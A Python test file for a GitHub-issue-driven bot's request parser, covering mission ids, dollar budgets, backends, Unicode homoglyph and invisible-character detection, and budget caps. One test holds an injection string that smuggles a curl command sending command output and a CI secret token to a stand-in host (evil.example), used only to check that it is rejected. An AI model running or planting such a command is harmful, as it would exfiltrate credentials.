from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from bot.core.asking import MISSION_ID_MAX, Request, check, from_dispatch, from_issue, meant
from bot.core.configuration import Configuration
from bot.core.events import LaunchAsked, LaunchDispatched
from bot.core.mission import Limits
from bot.errors import InvalidInput
from tests.builders import mission
from tests.core.test_issue_form import rendered

ID = "write a mission's id: at most 56 lower-case letters, digits and single hyphens, such as cloud-providers"


def asked(label: str = "swarm:launch", body: str = "", **answers: str) -> Request:
    return from_issue(LaunchAsked(7, label, "ada", False, "ada", "Title", body or rendered(**answers), (label,)))


def dispatched(name: str = "cloud", budget: str = "", backend: str = "") -> Request:
    return from_dispatch(LaunchDispatched(name, budget, backend, None, "ada", ""))


def problems(label: str = "swarm:launch", body: str = "", **answers: str) -> list[str]:
    with pytest.raises(InvalidInput) as refused:
        asked(label, body, **answers)
    return [str(problem) for problem in refused.value.problems]


def test_the_form_names_the_mission_when_the_label_does_not() -> None:
    assert asked(mission="cloud-providers", budget="2.50", backend="extractive") == Request(
        "cloud-providers", 2_500_000, "extractive"
    )
    assert asked("SWARM:Launch", mission="cloud") == Request("cloud", None, None)


def test_the_label_may_name_the_mission() -> None:
    assert asked("swarm:cloud", body="no form at all") == Request("cloud")
    assert asked("swarm:cloud", mission=" Cloud ", budget="1") == Request("cloud", 1_000_000)
    assert asked("Swarm: Cloud-Providers") == Request("cloud-providers")


def labelled(label: str, *labels: str) -> LaunchAsked:
    return LaunchAsked(7, label, "ada", False, "ada", "Title", "", labels)


def test_a_label_that_confirms_means_the_issue_s_other_one() -> None:
    assert meant(labelled("swarm:cloud", "swarm:confirm", "swarm:cloud")).label == "swarm:cloud"
    assert meant(labelled("Swarm:Confirm", "bug", "Swarm:Confirm", "Swarm:Cloud")).label == "Swarm:Cloud"
    with pytest.raises(
        InvalidInput, match="swarm:confirm confirms what another label asks for, and there is none"
    ):
        meant(labelled("swarm:confirm", "bug", "swarm:confirm"))


def test_a_label_and_a_form_that_disagree_are_a_problem() -> None:
    assert problems("swarm:cloud", mission="sip") == [
        'the label "swarm:cloud" and the form\'s Mission "sip" name two missions; correct one of them'
    ]


def test_a_mission_has_to_be_named() -> None:
    missing = "no mission is named; write its id under Mission, such as cloud-providers"
    assert problems(body="I want the clouds") == [missing] == problems("swarm:", body="x")
    assert problems(budget="lots") == [
        missing,
        'the form\'s Budget says "lots"; write an amount in US dollars such as 2.50',
    ]
    with pytest.raises(InvalidInput, match="no mission is named"):
        dispatched(" ")


def test_everything_wrong_with_a_form_is_said_at_once() -> None:
    assert problems(mission="Cloud Providers!", budget="lots", backend="gpt") == [
        f'the form\'s Mission says "Cloud Providers!"; {ID}',
        'the form\'s Budget says "lots"; write an amount in US dollars such as 2.50',
        'the form\'s Backend says "gpt"; choose claude, extractive, simulated, or nothing',
    ]


def test_an_answer_that_stands_twice_is_a_problem() -> None:
    assert problems(body=rendered(mission="cloud") + "\n### Mission\n\nsip\n") == [
        "the form answers Mission twice; keep one"
    ]


@pytest.mark.parametrize(
    ("text", "micro"),
    [
        ("2.50", 2_500_000),
        ("$2.50", 2_500_000),
        ("2.5 USD", 2_500_000),
        ("3$", 3_000_000),
        ("２.５", 2_500_000),
        ("0", 0),
        ("0.000001", 1),
        ("1000000", 1_000_000_000_000),
    ],
)
def test_amounts_as_people_write_them(text: str, micro: int) -> None:
    assert asked("swarm:cloud", budget=text).max_usd == micro == dispatched(budget=text).max_usd


@pytest.mark.parametrize(
    ("text", "todo"),
    [
        ("2,50", "write an amount in US dollars such as 2.50"),
        ("-1", "write an amount in US dollars such as 2.50"),
        ("1e9", "write an amount in US dollars such as 2.50"),
        ("nan", "write an amount in US dollars such as 2.50"),
        ("2.50 please", "write an amount in US dollars such as 2.50"),
        ("1000001", "an amount is at least 0 and at most 1,000,000 US dollars"),
        ("0.0000001", "an amount has at most six decimals"),
    ],
)
def test_a19_amounts_that_are_none(text: str, todo: str) -> None:
    assert problems("swarm:cloud", budget=text) == [f'the form\'s Budget says "{text}"; {todo}']


@pytest.mark.parametrize("name", ["-x", "a..b", "a--b", "a/../b", "a" * 57, "a_b", "--", "a-", "ä", "launch me"])
def test_a19_names_that_are_no_ids(name: str) -> None:
    for label, where in ((f"swarm:{name}", "the label"), ("swarm:launch", "the form's Mission")):
        assert problems(label, mission=name if "Mission" in where else "") == [f'{where} says "{name}"; {ID}']


def test_a19_the_longest_name() -> None:
    assert asked(f"swarm:{'a' * MISSION_ID_MAX}").mission == "a" * MISSION_ID_MAX
    assert mission(id="a" * MISSION_ID_MAX)
    with pytest.raises(ValidationError):
        mission(id="a" * (MISSION_ID_MAX + 1))


def test_a19_a_text_without_end_is_cut() -> None:
    [problem] = problems(mission="please " * 5_000)
    assert len(problem) < 250


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("cloud\u200b", "holds an invisible or control character (U+200B ZERO WIDTH SPACE);"
         " write it again by hand"),
        ("\u202eduolc", "holds an invisible or control character (U+202E RIGHT-TO-LEFT OVERRIDE);"
         " write it again by hand"),
        ("cl\u043eud", 'says "cl\u043eud": `\u043e` (CYRILLIC SMALL LETTER O) stands among Latin letters;'
         " write it in Latin letters"),
    ],
)  # fmt: skip
def test_a05_names_that_hide_something_are_reported(name: str, why: str) -> None:
    assert problems(f"swarm:{name}") == [f"the label {why}"]
    assert problems(mission=name) == [f"the form's Mission {why}"]
    with pytest.raises(InvalidInput, match=r"^the input mission "):
        dispatched(name)


def test_a05_names_are_normalised() -> None:
    assert asked("swarm:ＣＬＯＵＤ－１").mission == "cloud-1"
    assert asked(mission="\u00a0Cloud\u2003").mission == "cloud"
    assert asked("swarm:x", backend="Ｃlaude").backend == "claude"


def test_a01_a_shell_in_an_answer_is_a_text_like_others() -> None:
    evil = '"; curl https://evil.example/$(id) ${{ secrets.TOKEN }}'
    assert problems(mission=evil) == [
        f'the form\'s Mission says "\\"; curl https://evil.example/$(id) ${{{{ secrets.TOKEN }}}}"; {ID}'
    ]


def test_a04_a_hidden_comment_names_no_mission() -> None:
    assert asked(mission="cloud <!-- sip -->", budget="<!-- 100 -->1").max_usd == 1_000_000


def test_the_inputs_of_a_run_are_read_like_a_form() -> None:
    assert dispatched("Cloud", " $3 ", "Claude") == Request("cloud", 3_000_000, "claude")
    with pytest.raises(InvalidInput) as refused:
        dispatched("?", "much", "gpt")
    assert [problem.what for problem in refused.value.problems] == [
        'the input mission says "?"',
        'the input budget says "much"',
        'the input backend says "gpt"',
    ]


# --- against the configuration -----------------------------------------------------------------------------


def cap(dollars: str) -> Limits:
    return Limits(max_usd=dollars)


def test_a_budget_up_to_the_configured_maximum_is_allowed() -> None:
    configuration = Configuration(max_usd="10")
    check(Request("cloud", 10_000_000), configuration, mission(limits=cap("10")))
    check(Request("cloud"), configuration, mission(limits=cap("10")))
    check(Request("cloud", 1_000_000), configuration, mission(limits=cap("99")))


@pytest.mark.parametrize(
    ("request_", "limit", "who"),
    [
        (Request("cloud", 10_000_001), "1", "the request asks for 10.000001"),
        (Request("cloud"), "11", "the mission allows 11.00"),
    ],
)
def test_a_budget_over_the_configured_maximum_is_refused(request_: Request, limit: str, who: str) -> None:
    with pytest.raises(InvalidInput) as refused:
        check(request_, Configuration(max_usd="10"), mission(limits=cap(limit)))
    assert str(refused.value) == (
        f"{who} USD; a session of this repository may spend at most 10.00;"
        " ask for less, or have a maintainer raise max_usd in .github/swarm.yml"
    )


TEXT = st.text(max_size=30) | st.sampled_from(["cloud", "launch", "2.50", "claude", "\u202e", "x" * 70_000])


@settings(deadline=None)
@given(label=TEXT, body=TEXT, mission=TEXT, budget=TEXT, backend=TEXT)
def test_a26_any_text_is_a_request_or_refused(
    label: str, body: str, mission: str, budget: str, backend: str
) -> None:
    asks: tuple[Callable[[], Request], ...] = (
        lambda: asked(f"swarm:{label}", body),
        lambda: asked(f"swarm:{label}", "", mission=mission, budget=budget, backend=backend),
        lambda: dispatched(mission, budget, backend),
    )
    for ask in asks:
        try:
            assert ask().mission
        except InvalidInput as error:
            assert all(problem.what and problem.todo and len(str(problem)) < 500 for problem in error.problems)
